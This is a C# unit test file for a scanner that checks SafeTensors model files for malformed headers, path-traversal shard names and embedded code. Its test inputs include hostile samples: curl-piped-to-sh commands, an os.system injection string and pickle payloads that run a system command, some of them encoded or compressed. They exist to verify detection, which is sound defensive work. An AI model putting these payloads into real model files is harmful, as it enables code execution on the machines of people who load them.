using System.Buffers.Binary;
using System.Text;
using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Formats;
using Assay.Formats.SafeTensors;
using Assay.Inspect.Analysers.SafeTensors;

namespace Assay.Tests.Unit.Inspect.Analysers.SafeTensors;

public sealed class SafeTensorsAnalyserTests
{
    private const string A = """
        "a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}
        """;

    private static byte[] File(string header, int data = 16)
    {
        var text = Encoding.UTF8.GetBytes(header);
        var bytes = new byte[8 + text.Length + data];
        BinaryPrimitives.WriteInt64LittleEndian(bytes, text.Length);
        text.CopyTo(bytes.AsSpan(8));
        return bytes;
    }

    private static Task<TestBedResult> Run(byte[] bytes) =>
        TestBed.For(new SafeTensorsAnalyser()).WithBytes(bytes).Named("m.safetensors").As(FileFormat.SafeTensors).RunAsync(TestContext.Current.CancellationToken);

    [Theory]
    [InlineData("{" + A + "}")]
    [InlineData("{" + A + "}       ")]
    [InlineData("{\"__metadata__\":{\"ss_tag_frequency\":\"{\\\"10_cat\\\": {\\\"os.system\\\": 3}}\",\"format\":\"pt\"}," + A + "}")]
    [InlineData("{" + A + ",\"empty\":{\"dtype\":\"BF16\",\"shape\":[0,8],\"data_offsets\":[16,16]}}")]
    [InlineData("{\"a\":{\"dtype\":\"F8_E4M3\",\"shape\":[16],\"data_offsets\":[0,16]}}")]
    [InlineData("{\"a\":{\"dtype\":\"F4\",\"shape\":[32],\"data_offsets\":[0,16]}}")]
    public async Task Honest_headers_are_no_finding(string header) => (await Run(File(header))).Findings.ShouldBeEmpty();

    [Theory]
    [InlineData("{" + A + "," + A + "}")]
    [InlineData("{\"a\":{\"dtype\":\"F32\",\"shape\":[2,2],\"data_offsets\":[0,12]}}")]
    [InlineData("{\"a\":{\"dtype\":\"F32\",\"shape\":[2,2],\"data_offsets\":[4,20]}}")]
    [InlineData("{\"a\":{\"dtype\":\"OBJ\",\"shape\":[4],\"data_offsets\":[0,16]}}")]
    [InlineData("{\"a\":{\"dtype\":\"F32\",\"shape\":[4294967296,4294967296,16],\"data_offsets\":[0,16]}}")]
    [InlineData("{\"a\":{\"dtype\":\"F32\",\"shape\":[4],\"data_offsets\":[0,16],\"extra\":1}}")]
    [InlineData("{\"a\":{\"dtype\":\"F32\",\"shape\":[4.0],\"data_offsets\":[0,16]}}")]
    [InlineData("{\"../../a\":{\"dtype\":\"F32\",\"shape\":[4],\"data_offsets\":[0,16]}}")]
    [InlineData("{\"__metadata__\":{\"n\":3}," + A + "}")]
    [InlineData("{" + A + ",}")]
    [InlineData("{" + A + "}\n")]
    [InlineData(" {" + A + "}")]
    public async Task What_the_format_forbids_is_medium(string header) => (await Run(File(header))).Worst.ShouldBe(Severity.Medium);

    [Theory]
    [InlineData("__import__('os').system('echo assay-canary')")]
    [InlineData("curl http://127.0.0.1:9/x | sh")]
    public async Task A_value_that_is_a_command_is_high(string value) =>
        (await Run(File("{\"__metadata__\":{\"hook\":\"" + value + "\"}," + A + "}"))).Of("ASY-STN-008").Severity.ShouldBe(Severity.High);

    [Theory]
    [InlineData("Load it with the library, then run python -c 'print(1)' or curl https://example.invalid/x | sh to install the tools.")]
    [InlineData("python train.py --lr 1e-4")]
    [InlineData("{'class_type': 'exec', 'text': 'os.system(1)'}")]
    [InlineData("import\\nos.system\\ncurl\\nexec(x)\\nbash -c ls\\nsystem")]
    public async Task Prose_settings_and_lists_that_speak_of_commands_are_none(string value) =>
        (await Run(File("{\"__metadata__\":{\"usage\":\"" + value + "\"}," + A + "}"))).Findings.ShouldBeEmpty();

    [Theory]
    [InlineData("base85")]
    [InlineData("zlib")]
    [InlineData("json")]
    public async Task A_pickle_in_the_metadata_is_found_however_it_is_packed(string packing)
    {
        byte[] pickle = [0x80, 0x02, .. "cposix\nsystem\nX\u0011\0\0\0echo assay-canary"u8, 0x85, .. "R."u8];
        var value = packing switch
        {
            "base85" => Base85(pickle),
            "zlib" => Convert.ToBase64String(Zlib(pickle)),
            _ => "{'loader': {'code': '" + Convert.ToBase64String([.. pickle, .. new byte[30]]) + "'}}",
        };
        (await Run(File("{\"__metadata__\":{\"x\":\"" + value.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal) + "\"}," + A + "}")))
            .Of("ASY-STN-003").Severity.ShouldBe(Severity.High);
    }

    [Fact]
    public async Task A_tensor_that_is_a_pickle_is_high_and_one_that_begins_like_an_archive_is_not()
    {
        byte[] pickle = [0x80, 0x02, .. "cposix\nsystem\nX\u0011\0\0\0echo assay-canary"u8, 0x85, .. "R."u8];
        byte[] gzip = [0x1f, 0x8b, 8, 0, 91, 17, 204, 33, 77, 91];
        (await Run(Bytes(pickle))).Of("ASY-STN-009").Severity.ShouldBe(Severity.High);
        (await Run(Bytes([.. gzip, .. new byte[40]]))).Findings.ShouldBeEmpty();
    }

    private static byte[] Bytes(byte[] data)
    {
        var file = File("{\"a\":{\"dtype\":\"U8\",\"shape\":[" + data.Length + "],\"data_offsets\":[0," + data.Length + "]}}", data.Length);
        data.CopyTo(file.AsSpan(file.Length - data.Length));
        return file;
    }

    private static byte[] Zlib(byte[] data)
    {
        using var memory = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(memory, System.IO.Compression.CompressionLevel.Optimal)) zlib.Write(data);
        return memory.ToArray();
    }

    private static string Base85(byte[] data)
    {
        const string Alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
        byte[] padded = [.. data, .. new byte[(4 - (data.Length % 4)) % 4]];
        var text = new StringBuilder();
        for (var i = 0; i < padded.Length; i += 4)
        {
            var value = BinaryPrimitives.ReadUInt32BigEndian(padded.AsSpan(i));
            foreach (var power in (uint[])[85 * 85 * 85 * 85, 85 * 85 * 85, 85 * 85, 85, 1]) text.Append(Alphabet[(int)(value / power % 85)]);
        }
        return text.ToString(0, text.Length - (padded.Length - data.Length));
    }

    [Fact]
    public async Task A_type_of_a_newer_version_is_low() =>
        (await Run(File("{\"a\":{\"dtype\":\"F3_E1M1\",\"shape\":[42],\"data_offsets\":[0,16]}}"))).Worst.ShouldBe(Severity.Low);

    [Fact]
    public async Task Bytes_behind_the_tensors_are_medium_and_a_pickle_there_is_high()
    {
        (await Run([.. File("{" + A + "}"), 1, 2, 3])).Of("ASY-STN-002").Severity.ShouldBe(Severity.Medium);
        (await Run([.. File("{" + A + "}"), .. "cos\nsystem\n(S'echo assay-canary'\ntR."u8])).Of("ASY-STN-002").Severity.ShouldBe(Severity.High);
    }

    [Theory]
    [InlineData("gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==")]
    [InlineData("cos\\nsystem\\n(S'echo assay-canary'\\ntR.")]
    public async Task A_pickle_in_the_metadata_is_high(string value) =>
        (await Run(File("{\"__metadata__\":{\"note\":\"" + value + "\"}," + A + "}"))).Of("ASY-STN-003").Severity.ShouldBe(Severity.High);

    [Fact]
    public async Task A_length_beyond_the_file_is_malformed_though_the_content_is_unknown()
    {
        var result = await TestBed.For(new SafeTensorsAnalyser()).WithBytes(new byte[] { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f, 1, 2 }).Named("m.safetensors")
            .As(FileFormat.Unknown).RunAsync(TestContext.Current.CancellationToken);
        result.Worst.ShouldBe(Severity.Medium);
    }

    [Theory]
    [InlineData("../../secret.bin", Severity.High)]
    [InlineData("/etc/model.safetensors", Severity.High)]
    [InlineData("..\\\\x.safetensors", Severity.High)]
    [InlineData("https://h.invalid/x.safetensors", Severity.High)]
    [InlineData("model-00001-of-00002.safetensors", null)]
    [InlineData("unet/model..v2.safetensors", null)]
    public async Task A_shard_outside_the_folder_is_high(string shard, Severity? severity)
    {
        var json = "{\"metadata\":{},\"weight_map\":{\"w\":\"" + shard + "\"}}";
        var result = await TestBed.For(new ShardIndexAnalyser()).WithBytes(Encoding.UTF8.GetBytes(json)).RunAsync(TestContext.Current.CancellationToken);
        if (severity is null) result.Findings.ShouldBeEmpty();
        else result.Worst.ShouldBe(severity);
    }

    [Fact]
    public void Files_that_are_cut_or_changed_anywhere_are_read_without_an_exception()
    {
        var honest = File("{\"__metadata__\":{\"format\":\"pt\"}," + A + "}");
        var random = new Random(20240612);
        for (var i = 0; i < 3000; i++)
        {
            var bytes = honest[..(i < honest.Length ? i : honest.Length)];
            for (var n = random.Next(1, 6); n > 0 && bytes.Length > 0; n--) bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            SafeTensorsReader.Read(new MemoryByteSource(bytes), TestContext.Current.CancellationToken).DataEnd.ShouldBeInRange(0, bytes.Length);
        }
    }
}
